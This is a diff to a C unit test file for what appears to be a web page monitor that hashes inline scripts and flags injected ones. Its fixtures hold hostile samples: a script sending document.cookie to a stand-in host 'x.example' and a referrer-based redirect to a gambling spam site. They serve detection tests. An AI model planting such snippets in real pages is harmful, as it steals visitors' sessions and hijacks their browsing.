@@ -395,6 +395,24 @@ static void test_script_hashes(void **state)
 	assert_int_equal(pa.n_scripts, 2);
 	/* the nonce and the time alone changed: the same inline hash */
 	assert_string_equal(pa.scripts[1].sha256, pb.scripts[1].sha256);
+	/* so with a base64 token, a nonce of digits alone, a hex hash */
+	mon_page t1 = parse("<script>boot('q+3/Zk9=Yw1x0a/BcD==', '1234567890', 'deadbeefcafe');</script>",
+	                    NULL, 0),
+	         t2 = parse("<script>boot('Az/9+kLm0PqR2s/tUv==', 'a1b2c3d4e5', 'feedfacebead');</script>",
+	                    NULL, 0),
+	         t3 = parse("<script>boot('Az/9+kLm0PqR2s/tUv==', 'a1b2c3d4e5', x);</script>", NULL, 0);
+	assert_string_equal(t1.scripts[0].sha256, t2.scripts[0].sha256);
+	assert_string_not_equal(t2.scripts[0].sha256, t3.scripts[0].sha256);
+	mon_page_free(&t1);
+	mon_page_free(&t2);
+	mon_page_free(&t3);
+	/* a data block is no script: read as text (for the rules), not counted */
+	mon_page ld = parse("<script type='application/ld+json'>{\"headline\": \"slot gacor\"}</script>"
+	                    "<script type='text/javascript'>go()</script><script type=module>m()</script>",
+	                    NULL, 0);
+	assert_int_equal(ld.n_scripts, 2);
+	assert_non_null(strstr(ld.script, "slot gacor"));
+	mon_page_free(&ld);
 	assert_string_equal(pa.scripts[1].excerpt, "var wp = {\"nonce\": \"a1b2c3d4e5\", \"t\": 1764900000};init(wp);");
 	const char *h1 = "1111111111111111111111111111111111111111111111111111111111111111";
 	const char *h2 = "2222222222222222222222222222222222222222222222222222222222222222";
@@ -425,7 +443,7 @@ static void test_script_hashes(void **state)
 	assert_int_equal(f.n, 0);
 	/* an inline script injected: one finding, with its first words */
 	mon_page pc = parse("<body><p>Dinas</p><script src='/js/app.js'></script>"
-	                    "<script>var wp = {\"nonce\": \"77aa88bb99\", \"t\": 1};init(wp);</script>"
+	                    "<script>var wp = {\"nonce\": \"0123456789\", \"t\": 1764907200};init(wp);</script>"
 	                    "<script>\n  if (document.referrer.match(/google/))\n"
 	                    "    location = 'https://slot.example/';\n</script>"
 	                    "<script>new Image().src='//x.example/c?'+document.cookie</script></body>",
